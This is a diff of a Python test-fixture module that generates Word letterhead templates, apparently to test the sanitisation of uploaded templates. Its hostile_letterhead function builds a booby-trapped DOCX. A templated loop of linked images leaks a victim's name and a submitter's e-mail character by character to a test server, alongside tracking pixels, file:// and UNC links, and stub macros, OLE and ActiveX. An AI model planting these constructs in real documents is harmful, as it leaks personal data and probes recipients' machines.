@@ -111,6 +111,20 @@ def normal_letterhead() -> bytes:
     return _zip({name: data for name, data in members.items() if "customXml" not in name})
 
 
+def with_body(body: str, linked_images: dict[str, str] | None = None) -> bytes:
+    """The normal letterhead with ``body`` (WordprocessingML) added at the end of its body, and
+    with external image relationships, id to target, for the pictures it links."""
+    members = _read(normal_letterhead())
+    for rel_id, target in (linked_images or {}).items():
+        relate(members, "word/_rels/document.xml.rels", rel_id, "image", target, external=True)
+    document = members["word/document.xml"].decode()
+    document = document.replace("<w:sectPr", body + "<w:sectPr", 1)
+    members["word/document.xml"] = document.replace(
+        "<w:document ", f"<w:document {_extra_ns(document)}", 1
+    ).encode()
+    return _zip(members)
+
+
 def hostile_letterhead(server: str) -> bytes:
     """The normal letterhead with every item of issue 13's first list; ``server`` is the base
     address (``http://127.0.0.1:PORT``) the linked images and frames point at."""
@@ -119,21 +133,21 @@ def hostile_letterhead(server: str) -> bytes:
 
     # Linked images: one static, and one per character of the victim's name and the
     # submitter's e-mail, picked by the template.
-    _relate(members, doc_rels, "rIdStatic", "image", f"{server}/static.png", external=True)
+    relate(members, doc_rels, "rIdStatic", "image", f"{server}/static.png", external=True)
     for number, letter in enumerate(ALPHABET):
-        _relate(members, doc_rels, f"rIdL{number}", "image", f"{server}/{letter}", external=True)
+        relate(members, doc_rels, f"rIdL{number}", "image", f"{server}/{letter}", external=True)
     loop = (
         "{% for c in (case.victims[0].name ~ case.submitters[0].contact.email)|lower %}"
         "{% if c in '"
         + ALPHABET
         + "' %}"
-        + _linked_picture("rIdL{{ '" + ALPHABET + "'.index(c) }}")
+        + linked_picture("rIdL{{ '" + ALPHABET + "'.index(c) }}")
         + "{% endif %}{% endfor %}"
     )
     # A picture from the submitter's disk.
-    _relate(members, doc_rels, "rIdLocal", "image", "file:///etc/hostname", external=True)
+    relate(members, doc_rels, "rIdLocal", "image", "file:///etc/hostname", external=True)
     # An OLE link to a UNC path that updates by itself, an embedded OLE package, ActiveX.
-    _relate(
+    relate(
         members,
         doc_rels,
         "rIdUnc",
@@ -142,25 +156,25 @@ def hostile_letterhead(server: str) -> bytes:
         external=True,
     )
     members["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 package"
-    _relate(members, doc_rels, "rIdPkg", "oleObject", "embeddings/oleObject1.bin")
+    relate(members, doc_rels, "rIdPkg", "oleObject", "embeddings/oleObject1.bin")
     _default(members, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
     members["word/activeX/activeX1.xml"] = (
         b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
         b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>'
     )
     _override(members, "/word/activeX/activeX1.xml", "", "application/vnd.ms-office.activeX+xml")
-    _relate(members, doc_rels, "rIdAx", "control", "activeX/activeX1.xml")
+    relate(members, doc_rels, "rIdAx", "control", "activeX/activeX1.xml")
     # An external subdocument, an altChunk, a file:// hyperlink.
-    _relate(
+    relate(
         members, doc_rels, "rIdSub", "subDocument", "file:///C:/Cases/secret.docx", external=True
     )
     members["word/afchunk.html"] = f'<html><img src="{server}/altchunk.png"></html>'.encode()
     _default(members, "html", "text/html")
-    _relate(members, doc_rels, "rIdChunk", "aFChunk", "afchunk.html")
-    _relate(members, doc_rels, "rIdFile", "hyperlink", "file:///C:/Users/", external=True)
+    relate(members, doc_rels, "rIdChunk", "aFChunk", "afchunk.html")
+    relate(members, doc_rels, "rIdFile", "hyperlink", "file:///C:/Users/", external=True)
     # Macros.
     members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 pretend VBA"
-    _relate(
+    relate(
         members,
         doc_rels,
         "rIdVba",
@@ -170,9 +184,9 @@ def hostile_letterhead(server: str) -> bytes:
     )
 
     body = (
-        f"<w:p><w:r><w:t>Tracking pixel:</w:t></w:r>{_linked_picture('rIdStatic')}</w:p>"
+        f"<w:p><w:r><w:t>Tracking pixel:</w:t></w:r>{linked_picture('rIdStatic')}</w:p>"
         f"<w:p>{loop}</w:p>"
-        f"<w:p>{_linked_picture('rIdLocal')}</w:p>"
+        f"<w:p>{linked_picture('rIdLocal')}</w:p>"
         '<w:p><w:r><w:object><v:shape id="ole1" style="width:10pt;height:10pt"/>'
         '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="rIdUnc" '
         'UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject>'
@@ -203,7 +217,7 @@ def hostile_letterhead(server: str) -> bytes:
         f'<w:webSettings {NS}><w:frameset><w:frame><w:name w:val="f"/>'
         '<w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset></w:webSettings>'
     ).encode()
-    _relate(
+    relate(
         members,
         "word/_rels/webSettings.xml.rels",
         "rIdFrame",
@@ -223,7 +237,7 @@ def hostile_letterhead(server: str) -> bytes:
     settings.insert(0, etree.fromstring(f'<w:attachedTemplate {NS} r:id="rIdTemplate"/>'))
     members["word/settings.xml"] = etree.tostring(settings, xml_declaration=True, encoding="UTF-8")
     settings_rels = "word/_rels/settings.xml.rels"
-    _relate(
+    relate(
         members,
         settings_rels,
         "rIdMerge",
@@ -231,7 +245,7 @@ def hostile_letterhead(server: str) -> bytes:
         "file:///C:/victims.xlsx",
         external=True,
     )
-    _relate(
+    relate(
         members,
         settings_rels,
         "rIdTemplate",
@@ -253,7 +267,7 @@ def _extra_ns(document: str) -> str:
     )
 
 
-def _linked_picture(rel_id: str) -> str:
+def linked_picture(rel_id: str) -> str:
     """A run with a 1x1 cm picture whose image is linked (``r:link``), not embedded."""
     return (
         '<w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/>'
@@ -280,7 +294,7 @@ def _zip(members: dict[str, bytes]) -> bytes:
     return buffer.getvalue()
 
 
-def _relate(
+def relate(
     members: dict[str, bytes],
     rels_name: str,
     rel_id: str,
